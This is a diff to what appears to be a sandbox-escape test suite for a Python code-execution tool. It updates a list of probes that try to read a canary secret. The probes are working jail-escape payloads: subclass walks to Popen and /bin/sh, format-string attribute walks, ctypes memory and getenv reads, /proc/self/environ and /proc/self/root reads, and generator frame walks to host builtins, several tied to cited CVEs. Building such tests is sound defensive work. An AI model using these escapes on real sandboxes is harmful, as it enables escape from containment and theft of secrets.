@@ -442,7 +442,7 @@ PROBES: Final[tuple[EscapeProbe, ...]] = (
         """
         popen = [c for c in (1).__class__.__mro__[-1].__subclasses__() if c.__name__ == "Popen"][0]
         p = popen(["/bin/sh", "-c", "echo $TOOLCODE_CANARY"], stdout=-1)
-        p.communicate()[0]
+        p.communicate()[0].decode()
         """,
     ),
     _probe(
@@ -478,7 +478,7 @@ PROBES: Final[tuple[EscapeProbe, ...]] = (
         name = "".join(chr(c) for c in [95, 95, 115, 117, 98, 99, 108, 97, 115, 115, 101, 115, 95, 95])
         subs = type.__dict__[name](object)
         bi = [c for c in subs if c.__name__ == "BuiltinImporter"][0]
-        bi.load_module("posix").environ
+        bi.load_module("posix").environ[b"TOOLCODE_CANARY"].decode()
         """,
     ),
     _probe(
@@ -494,10 +494,10 @@ PROBES: Final[tuple[EscapeProbe, ...]] = (
     _probe(
         "dunder-builtin-self",
         _C.DUNDER_WALK,
-        "print.__self__ is the builtins module: its open() reads the canary file",
+        "len.__self__ is the builtins module: its open() reads the canary file",
         _PYJAIL,
         """
-        print.__self__.open(__CANARY_PATH__).read()
+        len.__self__.open(__CANARY_PATH__).read()
         """,
     ),
     _probe(
@@ -517,10 +517,10 @@ PROBES: Final[tuple[EscapeProbe, ...]] = (
     _probe(
         "format-attribute-walk",
         _C.FORMAT_STRING,
-        "'{0.__self__.__loader__.load_module.__globals__[sys].modules[os].environ[...]}'.format(print)",
+        "'{0.__self__.__loader__.load_module.__globals__[sys].modules[os].environ[...]}'.format(len)",
         "RestrictedPython str.format attribute walk (CVE-2023-41039); Jinja2 sandbox str.format (CVE-2016-10745)",
         """
-        "{0.__self__.__loader__.load_module.__globals__[sys].modules[os].environ[TOOLCODE_CANARY]}".format(print)
+        "{0.__self__.__loader__.load_module.__globals__[sys].modules[os].environ[TOOLCODE_CANARY]}".format(len)
         """,
     ),
     _probe(
@@ -554,7 +554,7 @@ PROBES: Final[tuple[EscapeProbe, ...]] = (
         """
         import string
         obj = string.Formatter().get_field(
-            "0.__self__.__loader__.load_module.__globals__[sys].modules[os].environ", (print,), {}
+            "0.__self__.__loader__.load_module.__globals__[sys].modules[os].environ", (abs,), {}
         )[0]
         obj["TOOLCODE_CANARY"]
         """,
@@ -595,7 +595,8 @@ PROBES: Final[tuple[EscapeProbe, ...]] = (
     _probe(
         "timebomb-atexit",
         _C.DEL_TIMEBOMB,
-        "atexit.register a callback that creates the witness when the host exits",
+        "atexit.register a callback that creates the witness when the host exits (seen when the host is a child "
+        "process that exits before judging)",
         _PYJAIL,
         """
         import atexit
@@ -703,7 +704,7 @@ PROBES: Final[tuple[EscapeProbe, ...]] = (
         _PYJAIL,
         """
         import time
-        time.__loader__.load_module("posix").environ
+        time.__loader__.load_module("posix").environ[b"TOOLCODE_CANARY"].decode()
         """,
     ),
     _probe(
@@ -726,7 +727,7 @@ PROBES: Final[tuple[EscapeProbe, ...]] = (
         import ctypes
         libc = ctypes.CDLL(None)
         libc.getenv.restype = ctypes.c_char_p
-        libc.getenv(b"TOOLCODE_CANARY")
+        libc.getenv(b"TOOLCODE_CANARY").decode()
         """,
     ),
     _probe(
@@ -747,7 +748,7 @@ PROBES: Final[tuple[EscapeProbe, ...]] = (
         """
         import ctypes, sys
         secret = sys.modules["toolcode.testing._canary"].HOST_MEMORY_SECRET
-        ctypes.string_at(id(secret) + sys.getsizeof("") - 1, len(secret))
+        ctypes.string_at(id(secret) + sys.getsizeof("") - 1, len(secret)).decode()
         """,
     ),
     # --- importlib --------------------------------------------------------------------------------------------
@@ -768,7 +769,7 @@ PROBES: Final[tuple[EscapeProbe, ...]] = (
         _PYJAIL,
         """
         import importlib.machinery
-        importlib.machinery.SourceFileLoader("x", __CANARY_PATH__).get_data(__CANARY_PATH__)
+        importlib.machinery.SourceFileLoader("x", __CANARY_PATH__).get_data(__CANARY_PATH__).decode()
         """,
     ),
     _probe(
@@ -812,12 +813,13 @@ PROBES: Final[tuple[EscapeProbe, ...]] = (
         """,
     ),
     _probe(
-        "open-proc-self-environ",
+        "open-proc-self",
         _C.OPEN_IO,
-        "/proc/self/environ read as a file exposes the host environment without os",
+        "/proc/self/environ (the host's start-up environment) and /proc/self/root/<path> (defeats path-prefix filters)",
         _PYJAIL,
         """
-        open("/proc/self/environ", "rb").read()
+        environ = open("/proc/self/environ", "rb").read().decode("latin-1")
+        environ + open("/proc/self/root" + __CANARY_PATH__).read()
         """,
     ),
     _probe(
@@ -827,7 +829,7 @@ PROBES: Final[tuple[EscapeProbe, ...]] = (
         "smolagents LocalPythonExecutor DANGEROUS_MODULES list (io is a file-access module)",
         """
         import io
-        io.FileIO(__CANARY_PATH__).read()
+        io.FileIO(__CANARY_PATH__).read().decode()
         """,
     ),
     _probe(
@@ -944,7 +946,7 @@ PROBES: Final[tuple[EscapeProbe, ...]] = (
     _probe(
         "frames-generator-gi-frame",
         _C.FRAMES,
-        "a running generator's gi_frame.f_back reaches the caller's frame and the host frames above it",
+        "a running generator's gi_frame.f_back walks up to the outermost host frame, whose builtins import os",
         "RestrictedPython stack-frame sandbox escape via generators (CVE-2023-37271)",
         """
         def gen():
@@ -952,13 +954,17 @@ PROBES: Final[tuple[EscapeProbe, ...]] = (
         g = gen()
         frame = next(g)
         found = []
-        while frame is not None:
+        while frame.f_back is not None:
             for value in list(frame.f_locals.values()) + list(frame.f_globals.values()):
                 if type(value).__name__ == "module" and value.__name__ == "toolcode.testing._canary":
                     found.append(value.HOST_MEMORY_SECRET)
                 elif type(value).__name__ == "Canaries":
                     found.append(value.memory_secret)
             frame = frame.f_back
+        # The outermost frame is the host's: its builtins are never the sandbox's restricted ones.
+        b = frame.f_globals["__builtins__"]
+        imp = b["__import__"] if isinstance(b, dict) else b.__import__
+        found.append(imp("os").environ["TOOLCODE_CANARY"])
         found
         """,
     ),
@@ -1146,7 +1152,7 @@ PROBES: Final[tuple[EscapeProbe, ...]] = (
         "smolagents LocalPythonExecutor subprocess escape (CVE-2025-9959)",
         """
         import subprocess
-        subprocess.run(["/bin/sh", "-c", "printf %s $TOOLCODE_CANARY"], capture_output=True).stdout
+        subprocess.run(["/bin/sh", "-c", "printf %s $TOOLCODE_CANARY"], capture_output=True, text=True).stdout
         """,
     ),
     _probe(
